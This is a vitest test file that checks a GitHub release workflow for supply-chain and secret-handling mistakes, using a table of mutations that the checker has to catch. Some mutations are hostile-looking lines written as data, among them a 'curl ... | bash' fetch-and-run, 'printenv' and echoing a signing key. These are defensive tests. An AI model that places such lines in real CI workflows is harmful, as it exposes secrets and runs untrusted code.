import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { workflow, workflowProblems } from './checks/workflow';
import { ROOT } from './support/app-folder';

const TEXT = readFileSync(join(ROOT, '.github/workflows/release.yml'), 'utf8');
const problemsOf = (text: string): readonly string[] => workflowProblems(workflow.parse(parse(text)));

test('the release workflow gives nothing away', () => {
  expect(problemsOf(TEXT)).toEqual([]);
});

test('it packs on three systems, after the tests, and lists what is in it', () => {
  const { jobs } = workflow.parse(parse(TEXT));
  expect(JSON.stringify(jobs['installers']?.strategy)).toMatch(/windows-.*macos-.*ubuntu-/);
  expect(jobs['installers']?.needs).toBe('test');
  const scripts = Object.values(jobs).flatMap(({ steps }) => steps.flatMap(({ run }) => run ?? []));
  for (const wanted of [
    'npm ci',
    'npm test',
    'npm run dist -- --win',
    'npm run dist -- --mac',
    'npm run dist -- --linux',
  ]) {
    expect(scripts.join('\n')).toContain(wanted);
  }
  expect(scripts.join('\n')).toMatch(/npm sbom .*cyclonedx/);
  expect(scripts.join('\n')).toContain('sha256sum');
});

test('a tag is signed, or nothing is made of it', () => {
  const { jobs } = workflow.parse(parse(TEXT));
  const packing = Object.values(jobs)
    .flatMap(({ steps }) => steps)
    .filter(({ run }) => run?.startsWith('npm run dist'));
  expect(packing).toHaveLength(3);
  for (const { env } of packing) {
    expect(env?.['PARLEY_REQUIRE_SIGNING']).toBe("${{ startsWith(github.ref, 'refs/tags/v') && '1' || '' }}");
  }
});

/** Each is a change of the real text; one that no longer fits fails. */
const MUTATIONS: Readonly<Record<string, readonly [find: string | RegExp, put: string]>> = {
  'an action by its branch': [/checkout@[0-9a-f]{40}/, 'checkout@main'],
  'an action by a short hash': [/checkout@[0-9a-f]{40}/, 'checkout@11bd719'],
  'the token stays': ['persist-credentials: false', 'persist-credentials: true'],
  'everybody may write': ['permissions:\n  contents: read', 'permissions:\n  contents: write'],
  'the release may write packages': ['contents: write', 'contents: write\n      packages: write'],
  'pull requests start it': ['workflow_dispatch:', 'pull_request_target:'],
  'a secret is echoed': ['printf \'%s\' "$KEY" > "$RUNNER_TEMP/apple.p8"', 'echo "$KEY"'],
  'a secret stands in a script': [
    'run: npm run dist -- --win',
    'run: npm run dist -- --win ${{ secrets.WIN_CSC_LINK }}',
  ],
  'the environment is printed': ['run: npm ci', 'run: printenv'],
  'scripts are traced': ['umask 077', 'set -x'],
  'what was fetched is run': ['run: npm ci', 'run: curl https://example.com/install | bash'],
  'the lock file is passed by': ['run: npm ci', 'run: npm install'],
  'nobody guards the secrets': ['    environment: release\n', ''],
};

describe('every mistake is caught', () => {
  test.each(Object.entries(MUTATIONS))('%s', (_name, [find, put]) => {
    const changed = TEXT.replace(find, put);
    expect(changed).not.toBe(TEXT);
    expect(problemsOf(changed)).not.toEqual([]);
  });
});
